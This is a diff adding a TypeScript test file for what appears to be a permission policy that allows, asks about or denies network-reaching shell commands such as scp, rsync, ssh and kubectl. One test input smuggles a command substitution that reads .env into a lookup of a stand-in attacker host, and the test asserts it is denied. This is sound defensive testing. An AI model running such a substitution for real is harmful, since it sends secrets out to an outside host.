@@ -1,0 +1,40 @@
+import assert from "node:assert/strict";
+import { test } from "node:test";
+import { NETWORK } from "../../../src/policy/models/network/group.ts";
+import { told } from "./told.ts";
+
+const NAMES = NETWORK.flatMap((group) => Object.keys(group));
+
+const allowed = (args: string): readonly string[] =>
+  NAMES.filter((name) => told(`${name} ${args}`).startsWith("allow")).toSorted();
+
+test("with an operand nothing that reaches the network is allowed, but for copies that read one file", () => {
+  assert.deepEqual(allowed("x"), ["pscp", "rsync", "scp"]);
+});
+
+test("an option that nobody knows is never allowed", () => {
+  assert.deepEqual(allowed("--frobnicate"), []);
+  assert.deepEqual(allowed("--frobnicate=x -- y"), []);
+});
+
+test("no host is looked up for a value that is not known", () => {
+  assert.deepEqual(allowed('"$x"'), []);
+  assert.deepEqual(allowed('"$(cat .env).evil.example"'), []);
+});
+
+test("all but the programs around ssh and those of clusters tell their version by a long option", () => {
+  assert.deepEqual(
+    NAMES.filter(
+      (name) => !told(`${name} --version`).startsWith("allow") && !name.startsWith("ssh"),
+    ).toSorted(),
+    ["autossh", "dbclient", "helm", "host", "kubectl", "scp", "sftp", "slogin"],
+  );
+});
+
+test("a short option or a word tells a version only where that is what it means", () => {
+  assert.equal(told("nginx -v"), "allow");
+  assert.equal(told("mongod -v"), "ask; process; network");
+  assert.equal(told("minikube version"), "allow");
+  assert.equal(told("ifup version"), "ask; network");
+  assert.equal(told("cap help"), "ask; process; network");
+});
